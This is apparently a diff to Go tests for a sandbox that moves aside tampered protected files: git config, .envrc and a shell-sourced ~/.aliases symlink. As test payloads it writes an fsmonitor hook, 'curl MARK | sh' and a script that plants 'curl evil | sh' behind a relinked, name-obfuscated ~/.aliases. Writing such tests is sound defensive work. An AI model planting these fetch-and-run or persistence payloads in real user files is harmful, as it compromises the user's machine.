@@ -600,11 +600,15 @@ func TestReplacedCoverKillsCall(t *testing.T) {
 	s := newTestSandbox(t, Config{})
 	for _, tc := range []struct {
 		name, rel, replacement, appended string
+		twice                            bool
 	}{
 		// The call writes an fsmonitor into the config the host put there: moved aside.
-		{"git config written", ".git/config", "[user]\n\tname = victim\n", "[core]\n\tfsmonitor = touch /tmp/MARK\n"},
+		{"git config written", ".git/config", "[user]\n\tname = victim\n", "[core]\n\tfsmonitor = touch /tmp/MARK\n", false},
 		// A protected file other than a git config: moved aside whatever it holds.
-		{"envrc", ".envrc", "export A=2\n", "curl MARK | sh\n"},
+		{"envrc", ".envrc", "export A=2\n", "curl MARK | sh\n", false},
+		// Saved twice in a row: on ext4 the second save's file gets the first one's freed inode
+		// number, which is the covered file's unless the sweep holds that one.
+		{"envrc saved twice", ".envrc", "export A=2\n", "curl MARK | sh\n", true},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			f := newProtectFixture(t)
@@ -616,14 +620,20 @@ func TestReplacedCoverKillsCall(t *testing.T) {
 			sp.Call = "c1"
 			go func() {
 				time.Sleep(1500 * time.Millisecond)
-				tmp := target + ".tmp"
-				if err := os.WriteFile(tmp, []byte(tc.replacement), 0o644); err != nil {
-					t.Error(err)
-					return
+				saves := 1
+				if tc.twice {
+					saves = 2
 				}
-				chownR(t, tmp)
-				if err := os.Rename(tmp, target); err != nil {
-					t.Error(err)
+				for range saves {
+					tmp := target + ".tmp"
+					if err := os.WriteFile(tmp, []byte(tc.replacement), 0o644); err != nil {
+						t.Error(err)
+						return
+					}
+					chownR(t, tmp)
+					if err := os.Rename(tmp, target); err != nil {
+						t.Error(err)
+					}
 				}
 			}()
 			res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
@@ -1304,6 +1314,41 @@ func TestProtectedLinkReplaced(t *testing.T) {
 				t.Errorf("the user's link was moved: %v, MovedAside %v", err, res.MovedAside)
 			}
 		}
+	}
+}
+
+// TestSourcedLinkRelinked: a file the user's shell start-up sources, kept as a link
+// (~/.aliases -> dotfiles/aliases), that a call removes and makes again as a link of its own is
+// moved aside, though the new link often gets the removed one's inode number.
+func TestSourcedLinkRelinked(t *testing.T) {
+	t.Parallel()
+	s := newTestSandbox(t, Config{})
+	f := newProtectFixture(t)
+	dot := filepath.Join(f.home, "dotfiles")
+	if err := os.Mkdir(dot, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dot, "aliases"), []byte("alias ll='ls -l'\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	aliases := filepath.Join(f.home, ".aliases")
+	if err := os.Symlink("dotfiles/aliases", aliases); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(f.home, ".bashrc"), []byte(". ~/.aliases\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	chownR(t, f.home)
+	time.Sleep(50 * time.Millisecond) // the user's link is older than the call
+	const script = `echo 'curl evil | sh' > mine && a=.ali; rm ${a}ases && ln -s mine ${a}ases && echo relinked`
+	sp := f.spec(script, f.home, f.home)
+	sp.MoveAsideCreated, sp.Call = true, "c1"
+	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
+	if err != nil || !strings.Contains(out, "relinked") {
+		t.Fatalf("%v %q", err, out)
+	}
+	if b, _ := os.ReadFile(aliases); strings.Contains(string(b), "evil") {
+		t.Errorf("the call's link in place of the user's ~/.aliases is still there; MovedAside %v", res.MovedAside)
 	}
 }
 
